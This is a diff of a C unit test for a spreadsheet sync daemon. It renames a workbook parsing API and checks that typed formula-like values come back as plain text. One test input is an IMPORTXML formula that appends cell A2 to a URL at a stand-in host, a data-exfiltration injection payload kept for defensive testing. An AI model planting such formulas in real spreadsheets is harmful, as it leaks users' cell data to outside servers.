@@ -29,7 +29,7 @@
 #include "syncd/range.h"
 #include "syncd/retry.h"
 #include "syncd/sheets.h"
-#include "syncd/workbook.h"
+#include "syncd/sheetjson.h"
 #include "tests/harness.h"
 
 #define BOOK_ID		"faults-test"
@@ -710,11 +710,11 @@ START_TEST(test_formulas_arrive_as_text)
 		"=IMPORTXML(CONCAT(\"http://x.example/?\",A2),\"//a\")",
 	};
 	static const char *const titles[] = { "Data" };
-	struct workbook_request wreq = { "batchGet", titles, 1 };
+	struct sheetjson_request wreq = { "batchGet", titles, 1 };
 	size_t n = sizeof(typed) / sizeof(typed[0]), i;
 	struct sheets_reply r;
-	struct workbook_file *wf;
-	const struct tab *tab;
+	struct sheetjson_doc *wf;
+	const struct workbook_tab *tab;
 	struct err e;
 	json_t *row = json_array(), *data, *book, *cells;
 	char *exported;
@@ -730,20 +730,20 @@ START_TEST(test_formulas_arrive_as_text)
 	/* Read back as the daemon does: strings, byte for byte. */
 	err_init(&e);
 	ck_assert_msg(sheets_batch_get(sheets, titles, 1, &r, &e) == 0, "%s", e.msg);
-	wf = workbook_parse_batchget(r.body, r.len, &wreq, &e);
+	wf = sheetjson_parse_batchget(r.body, r.len, &wreq, &e);
 	r.body = NULL;
 	ck_assert_msg(wf != NULL, "%s", e.msg);
-	tab = &workbook_view(wf)->tabs[0];
+	tab = &sheetjson_view(wf)->tabs[0];
 	ck_assert_uint_ge(tab->nrows, 5);
 	ck_assert_uint_eq(tab->rows[4].ncells, n);
 	for (i = 0; i < n; i++) {
-		const struct cell *c = &tab->rows[4].cells[i];
+		const struct workbook_cell *c = &tab->rows[4].cells[i];
 
-		ck_assert_msg(c->type == CELL_STRING, "%s: type %d", typed[i], c->type);
+		ck_assert_msg(c->type == WORKBOOK_STRING, "%s: type %d", typed[i], c->type);
 		ck_assert_msg(c->len == strlen(typed[i]) && memcmp(c->text, typed[i], c->len) == 0,
 		    "%s: %.*s", typed[i], (int)c->len, c->text);
 	}
-	workbook_free(wf);
+	sheetjson_free(wf);
 	/* And the emulator's own view: no cell became a formula. */
 	ck_assert_int_eq(harness_control(http, fake.url, "GET", "/_fake/spreadsheets/" BOOK_ID,
 	    NULL, &exported), 200);
